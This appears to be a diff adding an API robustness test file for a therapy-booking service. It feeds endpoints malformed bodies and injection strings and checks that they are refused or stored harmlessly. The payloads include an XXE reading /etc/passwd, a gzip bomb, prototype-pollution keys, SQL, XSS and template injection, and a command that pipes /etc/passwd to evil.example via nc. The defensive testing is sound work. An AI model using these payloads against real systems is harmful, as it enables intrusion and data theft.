@@ -1,0 +1,135 @@
+import { afterAll, describe, expect, test } from "vitest";
+import { operations } from "../answer-schemas.ts";
+import { accessMatrix } from "./access-matrix.ts";
+import { openStage } from "./stage.ts";
+import { fingerprint } from "./untouched.ts";
+
+const stage = await openStage();
+afterAll(() => stage[Symbol.asyncDispose]());
+const { house } = stage;
+const json = "application/json";
+
+/** Bodies that are none, whatever the operation: what is sent, as what, and what must come back. */
+const nonsense: Record<string, [BodyInit, string, number[]]> = {
+  "cut off": ['{"a":', json, [400]],
+  "no JSON": ["hello", json, [400]],
+  "JSON with a comma too many": ['{"a":1,}', json, [400]],
+  "JSON with a comment": ["{/* x */}", json, [400]],
+  "not a number": ['{"a":NaN}', json, [400]],
+  "two objects": ["{}{}", json, [400]],
+  "nothing that is UTF-8": [new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]), json, [400]],
+  "compressed": [await gzip("{}"), json, [400, 415]],
+  "null": ["null", json, [400]],
+  "a list": ["[]", json, [400]],
+  "a word": ['"x"', json, [400]],
+  "a number": ["1e999", json, [400]],
+  "too large": [`{"a":"${"x".repeat(100_001)}"}`, json, [413]],
+  "a form": ["a=b", "application/x-www-form-urlencoded", [415]],
+  "plain text": ["{}", "text/plain", [415]],
+  "XML": ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "text/xml", [415]],
+  "nearly JSON": ["{}", "application/jsonp", [415]],
+};
+
+const takers = operations.filter(({ takesBody }) => takesBody).map(({ operationId }) =>
+  accessMatrix.find((row) => row.operationId === operationId)!
+);
+
+describe.each(takers.map((row) => [row.operationId, row] as const))("%s", (_, row) => {
+  const { method, path: template } = operations.find((one) => one.operationId === row.operationId)!;
+
+  async function sendRaw(body: BodyInit, type: string, more: Record<string, string> = {}) {
+    const { params = {}, headers } = await row.call(stage, "A");
+    const path = template.replace(/\{(\w+)\}/g, (_, name) => params[name]!);
+    const before = await fingerprint(house);
+    const answer = await house.app.request(path, {
+      method,
+      body,
+      headers: { "Content-Type": type, ...stage.headers("A"), ...headers, ...more },
+    });
+    return { answer, isUntouched: await fingerprint(house) === before };
+  }
+
+  test.each(Object.entries(nonsense))("a body that is %s is refused", async (_, sent) => {
+    const [body, type, statuses] = sent;
+    const { answer, isUntouched } = await sendRaw(body, type);
+    expect(statuses).toContain(answer.status);
+    expect(isUntouched).toBe(true);
+  });
+
+  test("a body said to be compressed is refused or read as it is", async () => {
+    const bomb = await gzip("0".repeat(50_000_000));
+    const { answer, isUntouched } = await sendRaw(bomb, json, { "Content-Encoding": "gzip" });
+    expect([400, 413, 415]).toContain(answer.status);
+    expect(isUntouched).toBe(true);
+  });
+
+  test("a body that does not say its length is measured", async () => {
+    const { answer, isUntouched } = await sendRaw(endless(), json);
+    expect(answer.status).toBe(413);
+    expect(isUntouched).toBe(true);
+  });
+
+  test("deep, doubled and poisonous keys are keys like any other", async () => {
+    const { body } = await row.call(stage, "A");
+    const written = JSON.stringify(body ?? {});
+    const deep = "[".repeat(20_000) + "]".repeat(20_000);
+    const poison = `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},`;
+    const doubled = written.replace(/^\{/, '{"userId":"x","id":"x","isAdmin":true,');
+    const sent = [
+      written.replace(/^\{/, `{"deep":${deep},`).replace(/,\}$/, "}"),
+      written.replace(/^\{/, poison).replace(/,\}$/, "}"),
+      doubled.replace(/,\}$/, "}"),
+    ];
+    for (const text of sent) {
+      const { answer } = await sendRaw(text, json);
+      expect(answer.status).toBeLessThan(500);
+      if (answer.ok && !(await answer.text()).includes("accessToken")) stage.startAnew();
+    }
+    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
+    const owner = await house.ports.persistence.users.find(stage.users.A.id);
+    expect(owner).toMatchObject({ isAdmin: false, therapistId: null, email: stage.users.A.email });
+  });
+});
+
+const words: Record<string, string> = {
+  "SQL": `'); drop table users; -- " or ""="`,
+  "HTML": `<script>alert(1)</script><img src=x onerror=alert(1)>`,
+  "a script link": "javascript:alert(1)",
+  "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
+  "directions": "\u202Eevil\u202C \u2066x\u2069 \u200B\uFEFF",
+  "a command": "; cat /etc/passwd | nc evil.example 1 `id` $(id)",
+  "a log line": "x level=error msg=you-are-hacked",
+  "a formula": "=cmd|' /C calc'!A0",
+  "faces": "👩‍👩‍👧‍👦 Õäöü ß İ ﷽ 𝕳",
+};
+
+test.each(Object.entries(words))("%s is a word like any other", async (_, word) => {
+  const { session } = await stage.booked();
+  const path = `/therapy-sessions/${session.id}`;
+  const headers = stage.headers("A");
+  const noted = await house.send("PUT", path, { note: word }, headers);
+  expect((await noted.json()).note).toBe(word.trim());
+  const said = await house.post(`${path}/comment`, { comment: word }, headers);
+  expect((await said.json()).comments.at(-1).comment).toBe(word.trim());
+  const found = await house.post("/therapists/search", { q: word, text: word }, headers);
+  expect(found.status).toBeLessThan(500);
+  const query = new URLSearchParams({ cursor: word, limit: "5" });
+  expect((await house.get(`/therapy-sessions/me?${query}`, headers)).status).toBe(400);
+  expect((await house.get(`/user/by-email/${encodeURIComponent(word)}`, headers)).status).toBe(404);
+});
+
+/** A megabyte in pieces. */
+function endless(): ReadableStream<Uint8Array> {
+  let left = 1000;
+  return new ReadableStream({
+    pull(controller) {
+      controller.enqueue(new TextEncoder().encode(left === 1000 ? '{"a":"' : "x".repeat(1000)));
+      if (--left === 0) controller.close();
+    },
+  });
+}
+
+async function gzip(text: string): Promise<ArrayBuffer> {
+  const packed = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"));
+  return await new Response(packed).arrayBuffer();
+}
